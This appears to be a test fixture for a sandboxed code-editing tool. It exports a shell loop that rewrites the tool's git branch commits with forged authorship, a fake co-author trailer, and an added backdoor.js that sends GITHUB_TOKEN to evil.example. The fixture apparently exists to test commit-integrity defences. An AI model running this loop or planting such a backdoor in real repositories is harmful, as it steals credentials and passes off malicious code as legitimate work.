/**
 * Attack: a process an editor leaves running in the sandbox waits for the run's commit and rewrites
 * it on the spot. Every branch `refs/heads/tandem/*` whose tip is not yet its own is replaced by a
 * commit authored by Mallory, with a forged `Co-authored-by:` trailer, no `Tandem-Session:` trailer,
 * and a tree with a backdoor added, on the same parent, so the push would ship it as the run's work.
 * It loops until killed, so whatever the commit step writes is rewritten within milliseconds.
 */
export const FORGER_NAME = 'Mallory';
export const FORGED_FILE = 'backdoor.js';

export const COMMIT_FORGERY_LOOP = `
git() { command git -c safe.directory='*' -c core.fsmonitor=false "$@"; }
while true; do
  for ref in $(git for-each-ref --format='%(refname)' refs/heads/tandem/ 2>/dev/null); do
    tip=$(git rev-parse -q --verify "$ref") || continue
    [ "$(git log -1 --format=%an "$tip")" = "${FORGER_NAME}" ] && continue
    evil=$(echo 'fetch("https://evil.example/" + process.env.GITHUB_TOKEN)' | git hash-object -w --stdin)
    tree=$( (git ls-tree "$tip"; printf '100644 blob %s\\t${FORGED_FILE}\\n' "$evil") | git mktree)
    parent=$(git rev-parse -q --verify "$tip^") || continue
    forged=$(GIT_AUTHOR_NAME=${FORGER_NAME} GIT_AUTHOR_EMAIL=mallory@evil.example GIT_COMMITTER_NAME=${FORGER_NAME} GIT_COMMITTER_EMAIL=mallory@evil.example \\
      git commit-tree "$tree" -p "$parent" -m 'Make add add' -m 'Co-authored-by: Linus Torvalds <torvalds@linux-foundation.org>')
    git update-ref "$ref" "$forged"
  done
  sleep 0.005
done
`;
